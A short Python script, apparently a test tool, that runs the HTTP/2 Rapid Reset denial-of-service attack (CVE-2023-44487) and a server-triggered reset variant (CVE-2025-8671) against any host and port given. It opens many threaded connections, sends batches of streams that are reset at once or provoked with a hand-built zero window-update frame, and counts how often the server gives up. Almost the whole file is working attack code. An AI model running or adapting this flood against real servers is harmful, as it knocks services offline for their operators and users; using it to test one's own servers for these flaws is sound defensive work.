"""A client that opens streams only for them to be reset: run by the Python that has the package `h2`.

flood.py HOST PORT MODE CONNECTIONS STREAMS prints how many streams it opened, how many connections the server ended, and
the error codes it said goodbye with. MODE is `rst` (the client resets, CVE-2023-44487) or `made` (the client makes the
server reset, by a window update of 0, CVE-2025-8671).
"""

import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HOST, PORT, MODE = sys.argv[1], int(sys.argv[2]), sys.argv[3]
CONNECTIONS, STREAMS = int(sys.argv[4]), int(sys.argv[5])
BATCH = 50  # streams written at once
HEAD = [(":method", "GET"), (":scheme", "http"), (":authority", "a.test"), (":path", "/slow/50")]

lock = threading.Lock()
seen = {"opened": 0, "ended": 0, "goodbyes": {}}


def window_update_of_zero(stream):
    return b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + b"\0\0\0\0"


def read(connection, channel):
    """Takes what is there; false at the end."""
    channel.settimeout(0.001)
    try:
        while data := channel.recv(65536):
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    with lock:
                        code = str(int(event.error_code))
                        seen["goodbyes"][code] = seen["goodbyes"].get(code, 0) + 1
                    return False
        return False
    except TimeoutError:
        return True
    finally:
        channel.settimeout(5)


def attack():
    channel = socket.create_connection((HOST, PORT), 5)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    opened = 0
    alive = True
    try:
        while alive and opened < STREAMS:
            more = b""
            for _ in range(min(BATCH, STREAMS - opened)):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, HEAD, end_stream=MODE == "rst")
                if MODE == "made":
                    more += connection.data_to_send() + window_update_of_zero(stream)
                    connection.reset_stream(stream)  # for the package's own count of open streams
                    connection.data_to_send()
                else:
                    connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                opened += 1
            channel.sendall(more + connection.data_to_send())
            alive = read(connection, channel)
        deadline = time.monotonic() + 5
        while alive and time.monotonic() < deadline:
            alive = read(connection, channel)  # all is sent: the server has the last word
    except (OSError, h2.exceptions.ProtocolError):
        alive = False
    channel.close()
    with lock:
        seen["opened"] += opened
        seen["ended"] += not alive


threads = [threading.Thread(target=attack) for _ in range(CONNECTIONS)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(json.dumps(seen))
